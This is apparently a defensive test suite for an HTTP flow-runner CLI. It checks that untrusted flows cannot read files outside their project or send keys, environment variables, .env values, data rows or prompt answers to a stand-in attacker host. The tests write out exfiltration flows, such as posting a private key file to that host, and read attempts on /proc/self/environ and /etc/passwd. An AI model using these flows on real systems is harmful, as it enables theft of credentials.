/**
 * What a flow from someone else's repository may do (docs/flows.md, What a flow may do): it reads only files of its
 * project (links resolved), and values of the user's side (body files, the Partner ID, outside variables, data rows,
 * answers of signed requests) go only to the environment's addresses unless the user allows the host. Each route is
 * tried as an attacker would, against a real Local sandbox and a stand-in for the attacker's host that records what
 * reaches it.
 */
import * as assert from 'node:assert/strict';
import { createPublicKey } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../../../src/cli/cli';
import { runBackfill } from '../../../src/core/backfill';
import { checkFlowForRun, parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
import { FlowFileAccessError, projectAccess, projectOf, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
import { generateKeyMaterial, importPrivateKeyPem } from '../../../src/core/jwt/keys';
import { TokenMinter } from '../../../src/core/jwt/mint';
import { startSandbox, type SandboxHandle } from '../../../src/core/sandbox/server';

const PARTNER = 'P-SAFE-1';

async function cli(cwd: string, ...argv: string[]): Promise<{ code: number; out: string }> {
  let out = '';
  const io = { stdout: { write: (s: string) => (out += s) }, stderr: { write: (s: string) => (out += s) } };
  const saved = process.cwd();
  process.chdir(cwd);
  try {
    return { code: await runCli(argv, io), out };
  } finally {
    process.chdir(saved);
  }
}

describe('flows: what a flow may read and where it may send', function () {
  this.timeout(60_000);
  let top: string;
  let project: string;
  let outside: string;
  let sb: SandboxHandle;
  let keyFile: string;
  let environment: FlowEnvironment;
  let attacker: Server;
  let attackerHost: string;
  const received: string[] = [];
  const flags = () => ['--base-url', sb.v3BaseUrl, '--iss', PARTNER, '--key', keyFile];
  const write = (path: string, text: string) => {
    writeFileSync(path, text);
    return path;
  };

  before(async () => {
    top = realpathSync(mkdtempSync(join(tmpdir(), 'tpp-safety-')));
    project = join(top, 'repo');
    outside = join(top, 'outside');
    mkdirSync(join(project, '.git'), { recursive: true });
    mkdirSync(join(project, 'flows'));
    mkdirSync(outside);
    const key = await generateKeyMaterial('P-256');
    keyFile = write(join(outside, 'partner-key.pem'), key.pkcs8Pem);
    write(join(outside, 'secret.txt'), 'the secret outside the project');
    write(join(project, 'flows', 'body.json'), '{"hello":"project"}');
    sb = await startSandbox({ partners: [{ id: PARTNER, spkiPem: createPublicKey(key.pkcs8Pem).export({ type: 'spki', format: 'pem' }).toString() }] });
    const k = importPrivateKeyPem(key.pkcs8Pem);
    const minter = new TokenMinter();
    environment = { id: 'local', baseUrl: sb.v3BaseUrl, partnerId: PARTNER, token: () => minter.mint(k, { iss: PARTNER, aud: sb.v3BaseUrl }) };
    attacker = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${body}`);
        res.setHeader('content-type', 'application/json');
        res.end('{"ok":true}');
      });
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    attackerHost = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  });
  beforeEach(() => void (received.length = 0));
  after(async () => {
    await sb?.close();
    await new Promise((r) => attacker?.close(r));
    rmSync(top, { recursive: true, force: true });
  });

  describe('reading files', () => {
    it('finds the project: the nearest folder with .git or tpp.json, else the current directory or the flow folder', async () => {
      assert.equal(await projectOf(join(project, 'flows', 'a.http'), top), project);
      const loose = join(top, 'loose', 'deep');
      mkdirSync(loose, { recursive: true });
      write(join(top, 'loose', 'tpp.json'), '{}');
      assert.equal(await projectOf(join(loose, 'a.http'), top), join(top, 'loose'));
      assert.equal(await projectOf(join(outside, 'a.http'), top), top, 'below the current directory: the current directory');
      assert.equal(await projectOf(join(outside, 'a.http'), project), outside, 'elsewhere: the flow folder');
    });

    it('refuses absolute paths, .. out of the project, other schemes and system files; reads files of the project', async () => {
      const scope = await readScopeOf(project);
      const flowDir = join(project, 'flows');
      assert.equal(await readInScope('./body.json', flowDir, scope), '{"hello":"project"}');
      for (const [written, why] of [
        [join(outside, 'secret.txt'), /outside the flow's project/],
        ['../../outside/secret.txt', /outside the flow's project/],
        ['/proc/self/environ', /system directory/],
        ['file:///etc/passwd', /is not a file path/],
        ['./nope.json', /ENOENT/],
      ] as const) {
        await assert.rejects(readInScope(written, flowDir, scope), (err: unknown) => err instanceof FlowFileAccessError && why.test(err.reason), written);
      }
    });

    it('judges a path after its links are resolved: a link inside the project to a file outside is refused', async () => {
      symlinkSync(join(outside, 'secret.txt'), join(project, 'flows', 'innocent.json'));
      symlinkSync(outside, join(project, 'flows', 'dir-link'));
      const scope = await readScopeOf(project);
      await assert.rejects(readInScope('./innocent.json', join(project, 'flows'), scope), /through a symbolic link/);
      await assert.rejects(readInScope('./dir-link/secret.txt', join(project, 'flows'), scope), /outside the flow's project/);
    });

    it('reads an allowed folder; refuses a FIFO and a file over the size limit', async () => {
      const allowed = await readScopeOf(project, [outside]);
      assert.equal(await readInScope(join(outside, 'secret.txt'), project, allowed), 'the secret outside the project');
      await assert.rejects(readInScope('/proc/self/environ', project, await readScopeOf(project, ['/proc'])), /system directory/, 'never a system directory');
      execFileSync('mkfifo', [join(project, 'fifo')]);
      await assert.rejects(readInScope('./fifo', project, allowed), /not a regular file/);
      write(join(project, 'big.json'), 'x'.repeat(2048));
      await assert.rejects(readInScope('./big.json', project, allowed, 1024), /2048 bytes, more than the 1024/);
    });

    it('tpp run: a body file outside the project is exit 2 with its line and column, and nothing is sent', async () => {
      const flow = write(join(project, 'flows', 'steal.http'), `GET {{baseUrl}}/verify-token\n\n###\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n< ../../outside/partner-key.pem\n`);
      const r = await cli(project, 'run', flow, ...flags());
      assert.equal(r.code, 2, r.out);
      assert.match(r.out, /steal\.http:7:1: error: \.\.\/\.\.\/outside\/partner-key\.pem is outside the flow's project .*--allow-read/);
      assert.match(r.out, /nothing was sent/);
      assert.deepEqual(received, []);
    });

    it('tpp run --allow-read reads the folder; its file still goes only to the environment unless --allow-host', async () => {
      const flow = write(join(project, 'flows', 'allowed.http'), `POST http://${attackerHost}/d\nContent-Type: text/plain\n\n< ../../outside/secret.txt\n`);
      const refused = await cli(project, 'run', flow, ...flags(), '--allow-read', outside);
      assert.equal(refused.code, 2, refused.out);
      assert.match(refused.out, /allowed\.http:1:6: error: .*the body file \.\.\/\.\.\/outside\/secret\.txt to 127\.0\.0\.1:\d+, which is not an address of the environment.*--allow-host 127\.0\.0\.1:\d+/);
      assert.deepEqual(received, []);
      const sent = await cli(project, 'run', flow, ...flags(), '--allow-read', outside, '--allow-host', attackerHost);
      assert.equal(sent.code, 0, sent.out);
      assert.deepEqual(received, ['POST /d the secret outside the project']);
    });
  });

    it('tpp run: a # @data file outside the project is exit 2 at its line, and no journal folder is made outside', async () => {
      write(join(outside, 'd2.csv'), 'n\n1\n');
      const flow = write(join(project, 'flows', 'rows.http'), `# @data ../../outside/d2.csv\n### a row\nGET {{baseUrl}}/verify-token?n={{row.n}}\n`);
      const r = await cli(project, 'run', flow, ...flags());
      assert.equal(r.code, 2, r.out);
      assert.match(r.out, /rows\.http:1:9: error: \.\.\/\.\.\/outside\/d2\.csv is outside the flow's project/);
      assert.equal(existsSync(join(outside, '.tpp')), false, 'no .tpp/runs outside the project');
      const sent = await cli(project, 'run', flow, ...flags(), '--allow-read', outside);
      assert.equal(sent.code, 0, sent.out);
    });

  describe('hosts', () => {
    it('the Partner ID, an outside variable and a body file of the project go to the environment only (exit 2 before anything is sent)', async () => {
      for (const [name, text] of [
        ['iss.http', `GET {{baseUrl}}/verify-token\n\n###\nGET http://${attackerHost}/p?who={{partnerId}}\n`],
        ['var.http', `@x = {{company}}\nGET {{baseUrl}}/verify-token\n\n###\nPOST http://${attackerHost}/v\nX-Company: {{x}}\n`],
        ['file.http', `GET {{baseUrl}}/verify-token\n\n###\nPOST http://${attackerHost}/f\n\n< ./body.json\n`],
      ] as const) {
        const r = await cli(project, 'run', write(join(project, 'flows', name), text), ...flags(), '--var', 'company=Acme');
        assert.equal(r.code, 2, `${name}: ${r.out}`);
        assert.match(r.out, /flow-foreign-host|which is not an address of the environment/, name);
      }
      assert.deepEqual(received, [], 'not even the first, signed, request ran');
    });

    it('an answer of a signed request is not forwarded, even to a URL known only at run time', async () => {
      const text = `# @name list\nGET {{baseUrl}}/tire-protection/registrations\n\n###\n# @name where\nGET http://${attackerHost}/where\n\n###\nPOST http://{{where.response.body.$.host}}/d\nContent-Type: application/json\n\n{{list.response.body.*}}\n`;
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        received.push(`${req.method} ${req.url}`);
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify({ host: attackerHost }));
      });
      const results = await runFlow(parseFlow(text, 'chain.http'), { environment, readFile: () => Promise.reject(new Error('none')) });
      assert.deepEqual(results.map((r) => r.outcome), ['passed', 'passed', 'errored']);
      assert.match(results[2]?.message ?? '', /Not sent: it would send the answer of list \(a request signed for the environment\) to 127\.0\.0\.1:\d+/);
      assert.deepEqual(received, ['GET /where'], 'the foreign host got only the request carrying nothing of the user');
      const allowed = await runFlow(parseFlow(text, 'chain.http'), { environment, readFile: () => Promise.reject(new Error('none')), hosts: { allowed: [attackerHost.split(':')[0] as string] } });
      assert.deepEqual(allowed.map((r) => r.outcome), ['passed', 'passed', 'passed'], 'allowed by host name, any port');
    });

    it('the editor asks: a request waits for the answer, and a no sends nothing', async () => {
      const text = `POST http://${attackerHost}/d\n\n{"p":"{{partnerId}}"}\n`;
      const asked: string[] = [];
      const no = await runFlow(parseFlow(text, 'ask.http'), { environment, readFile: () => Promise.reject(new Error('none')), hosts: { confirm: async (host, carried) => (asked.push(`${host} ${carried.map((c) => c.kind).join()}`), false) } });
      assert.equal(no[0]?.outcome, 'errored');
      assert.deepEqual(asked, [`${attackerHost} partner-id`]);
      const before = received.length;
      const yes = await runFlow(parseFlow(text, 'ask.http'), { environment, readFile: () => Promise.reject(new Error('none')), hosts: { confirm: async () => true } });
      assert.equal(yes[0]?.outcome, 'passed', yes[0]?.message);
      assert.equal(received.length, before + 1);
    });

    it("the check before a run asks the host policy's question (the editor's dialog), only of a flow nothing else refuses", async () => {
      const text = (extra: string) => `GET http://${attackerHost}/first\n\n###\nPOST http://${attackerHost}/d\n\n{"p":"{{partnerId}}"${extra}}\n`;
      const asked: string[] = [];
      const hosts = (answer: boolean) => ({ environment, variables: {}, policy: { confirm: async (host: string) => (asked.push(host), answer) } });
      const names = new Set(['baseUrl', 'partnerId']);
      assert.deepEqual(await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(true) }), [], 'a yes lets it run');
      const no = await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(false) });
      assert.deepEqual(no.map((p) => `${p.line}:${p.column} ${p.code}`), ['4:6 flow-foreign-host']);
      assert.deepEqual(asked, [attackerHost, attackerHost]);
      const other = await checkFlowForRun(parseFlow(text(',"x":"{{nope}}"'), 'ask.http'), { names, hosts: hosts(true) });
      assert.deepEqual(other.map((p) => p.code), ['flow-foreign-host', 'flow-unknown-variable'], 'refused anyway: the host is not asked about');
      assert.equal(asked.length, 2);
    });

    it('a # @prompt answer is a value of your side, even where a file variable has its name, in its request and later ones', async () => {
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        let body = '';
        req.on('data', (c: Buffer) => (body += c.toString()));
        req.on('end', () => {
          received.push(`${req.method} ${req.url} ${body}`.trim());
          res.end('{}');
        });
      });
      const none = () => Promise.reject(new Error('none'));
      // The answer wins over @tok when resolving (docs/flows.md, Variables), so @tok's own text is no excuse.
      const same = parseFlow(`@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d?t={{tok}}\n`, 'prompt.http');
      const asked: string[] = [];
      const typed = await runFlow(same, { environment, readFile: none, prompt: async () => 'typed-secret', hosts: { confirm: async (host, carried) => (asked.push(carried.map((c) => `${c.kind} ${'name' in c ? c.name : ''}`).join()), false) } });
      assert.equal(typed[0]?.outcome, 'errored', typed[0]?.message);
      assert.match(typed[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
      assert.deepEqual(asked, ['prompt tok'], 'the editor asks, naming the prompt');
      // tpp.variables fills the input box in: accepting it unchanged is an answer too.
      const prefilled = await runFlow(same, { environment, readFile: none, variables: { tok: 'from-settings' }, prompt: async (_r, _p, initial) => initial });
      assert.match(prefilled[0]?.message ?? '', /Not sent: it would send the answer to # @prompt tok/);
      // A file variable first resolved with the answer keeps it for the rest of the run: a later request carries it.
      const later = parseFlow(`@tok = written-here\n@auth = Bearer {{tok}}\n# @prompt tok\nGET {{baseUrl}}/verify-token\nX-Auth: {{auth}}\n\n###\nGET http://${attackerHost}/later\nX-Auth: {{auth}}\n`, 'later.http');
      const after = await runFlow(later, { environment, readFile: none, prompt: async () => 'typed-secret' });
      assert.deepEqual(after.map((r) => r.outcome), ['passed', 'errored'], after.map((r) => r.message).join(' | '));
      assert.match(after[1]?.message ?? '', /the answer to # @prompt tok/);
      assert.deepEqual(received, [], 'the foreign host got nothing');
      // tpp run asks nothing: its --var is a variable given from outside, refused before sending anything ...
      const given = write(join(project, 'flows', 'prompt.http'), `# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
      const r = await cli(project, 'run', given, ...flags(), '--var', 'tok=typed-secret');
      assert.equal(r.code, 2, r.out);
      assert.match(r.out, /prompt\.http:2:6: error: .*the variable \{\{tok\}\} given from outside the file to 127\.0\.0\.1:\d+/);
      assert.deepEqual(received, []);
      // ... and a file variable of the name wins over it there (tpp run --help): the file's own text may go anywhere.
      const own = write(join(project, 'flows', 'prompt-own.http'), `@tok = written-here\n# @prompt tok\nPOST http://${attackerHost}/d\nContent-Type: text/plain\n\n{{tok}}\n`);
      const sent = await cli(project, 'run', own, ...flags(), '--var', 'tok=typed-secret');
      assert.equal(sent.code, 0, sent.out);
      assert.deepEqual(received, ['POST /d written-here'], 'sent what the file wrote, not the --var');
    });

    it('a data row value goes to the environment only: tpp run refuses the backfill before a row is sent, a row refuses it when it comes up', async () => {
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        received.push(`${req.method} ${req.url}`);
        res.end('{}');
      });
      write(join(project, 'flows', 'route-rows.csv'), 'x\nrow-secret-1\nrow-secret-2\n');
      const text = `# @data ./route-rows.csv\nPOST http://${attackerHost}/row\nContent-Type: text/plain\n\n{{row.x}}\n`;
      const flowPath = write(join(project, 'flows', 'route-rows.http'), text);
      const refused = await cli(project, 'run', flowPath, ...flags(), '--no-journal');
      assert.equal(refused.code, 2, refused.out);
      assert.match(refused.out, /route-rows\.http:2:6: error: .*the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+, which is not an address of the environment/);
      assert.deepEqual(received, []);
      // Where the URL is known only as the row runs, the row itself is refused when its request comes up.
      const late = `# @data ./route-rows.csv\n@to = http://${attackerHost}\nPOST {{to}}/row/{{row.x}}\n`;
      const rows: string[] = [];
      await runBackfill({ flow: parseFlow(late, flowPath), flowText: late, flowPath, dataPath: join(project, 'flows', 'route-rows.csv'), environment, readFile: async () => '', journal: false, listener: { onRowEnd: (r) => void rows.push(`${r.status} ${r.message ?? ''}`) } });
      assert.equal(rows.length, 2);
      for (const r of rows) assert.match(r, /Not sent: it would send the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+/);
      assert.deepEqual(received, [], 'no row reached the other host');
    });

    it('{{$processEnv NAME}} and {{$dotenv NAME}} go to the environment only: tpp run refuses them before sending, unless --allow-host', async () => {
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        received.push(`${req.method} ${req.url} ${req.headers['x-key']}`);
        res.end('{}');
      });
      write(join(project, 'flows', '.env'), 'SAFETY_DOTENV=dot-secret\n');
      process.env.TPP_SAFETY_ENV = 'env-secret';
      try {
        for (const [name, ref, words] of [
          ['route-env.http', '{{$processEnv TPP_SAFETY_ENV}}', /the environment variable TPP_SAFETY_ENV \(\{\{\$processEnv TPP_SAFETY_ENV\}\}\)/],
          ['route-dotenv.http', '{{$dotenv SAFETY_DOTENV}}', /the \.env value SAFETY_DOTENV \(\{\{\$dotenv SAFETY_DOTENV\}\}\)/],
        ] as const) {
          const flow = write(join(project, 'flows', name), `GET {{baseUrl}}/verify-token\n\n###\nGET http://${attackerHost}/k\nX-Key: ${ref}\n`);
          const r = await cli(project, 'run', flow, ...flags());
          assert.equal(r.code, 2, `${name}: ${r.out}`);
          assert.match(r.out, new RegExp(`${name.replace('.', '\\.')}:4:5: error: .*${words.source} to 127\\.0\\.0\\.1:\\d+`), name);
          assert.deepEqual(received, [], `${name}: nothing was sent, not even the signed request before it`);
          const allowed = await cli(project, 'run', flow, ...flags(), '--allow-host', attackerHost);
          assert.equal(allowed.code, 0, `${name}: ${allowed.out}`);
          assert.equal(received.pop(), `GET /k ${name === 'route-env.http' ? 'env-secret' : 'dot-secret'}`, 'the host rule, and nothing else, held it');
        }
      } finally {
        delete process.env.TPP_SAFETY_ENV;
      }
    });

    it('a request carrying only what the file wrote may go to any host; the token never does', async () => {
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        received.push(`${req.method} ${req.url} ${req.headers.authorization ?? 'no-auth'}`);
        res.end('{}');
      });
      const reader = (p: string, f: string) => projectAccess(project).read(p, f);
      const r = await runFlow(parseFlow(`@note = hello\nPOST http://${attackerHost}/plain?n={{note}}&t={{$timestamp}}\n\n{"a":1}\n`, join(project, 'flows', 'plain.http')), { environment, readFile: reader });
      assert.equal(r[0]?.outcome, 'passed', r[0]?.message);
      assert.match(received[0] ?? '', /^POST \/plain\?n=hello&t=\d+ no-auth$/);
    });
  });
  describe('exchanges keep no credential', () => {
    it('a token without a scheme, X-Api-Key, Cookie and Set-Cookie are masked in the json report; references still read them', async () => {
      const jwt = 'eyJhbGciOiJFUzI1NiJ9.eyJpc3MiOiJ4In0.c2lnbmF0dXJlLXZhbHVlLWhlcmU';
      attacker.removeAllListeners('request');
      attacker.on('request', (req, res) => {
        received.push(`${req.headers.authorization} ${req.headers['x-api-key']} ${req.headers.cookie}`);
        res.setHeader('set-cookie', 'session=s3cr3t-session-value; HttpOnly');
        res.setHeader('content-type', 'application/json');
        res.end('{"ok":true}');
      });
      const flow = write(
        join(project, 'flows', 'creds.http'),
        `# @name login\nPOST http://${attackerHost}/login\nAuthorization: ${jwt}\nX-Api-Key: k-123-very-secret\nCookie: sid=c00kie-value\n\n?? header set-cookie matches session=\n\n###\n# @no-cookie-jar\nGET http://${attackerHost}/next\nCookie: {{login.response.headers.set-cookie}}\n`,
      );
      const out = join(top, 'report.json');
      const r = await cli(project, 'run', flow, ...flags(), '--reporter', 'json', '--out', out);
      assert.equal(r.code, 0, r.out);
      assert.deepEqual(received, [`${jwt} k-123-very-secret sid=c00kie-value`, 'undefined undefined session=s3cr3t-session-value; HttpOnly'], 'sent as written, the cookie of the answer read by the reference');
      const report = (await import('node:fs')).readFileSync(out, 'utf8');
      for (const secret of [jwt.split('.')[1] as string, 'k-123-very-secret', 'c00kie-value', 's3cr3t-session-value']) assert.ok(!report.includes(secret), `${secret} is not in the report`);
      const first = (JSON.parse(report) as { results: { exchange: { request: { headers: Record<string, string> }; response: { headers: Record<string, string> } } }[] }).results[0]?.exchange;
      assert.equal(first?.request.headers.authorization, '[masked]', 'a value without a known scheme is masked whole');
      assert.equal(first?.request.headers['x-api-key'], '[masked]');
      assert.equal(first?.response.headers['set-cookie'], '[masked]');
    });
  });
});
